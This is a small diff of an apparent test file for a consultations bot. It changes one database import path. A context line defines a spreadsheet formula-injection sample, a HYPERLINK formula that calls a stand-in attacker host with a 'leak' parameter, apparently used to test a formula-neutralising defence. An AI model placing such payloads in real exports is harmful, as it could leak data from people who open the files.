@@ -12,7 +12,7 @@ from bot.consultations.__main__ import main
 from bot.consultations.report import HEADERS, neutralise_formula
 from bot.consultations.repository import ConsultationRepository
 from bot.consultations.submission import NewConsultation, SubmitResult
-from bot.knowledge.database import dispose_engines, get_engine
+from bot.persistence.database import dispose_engines, get_engine
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak=1","Click me")'
 
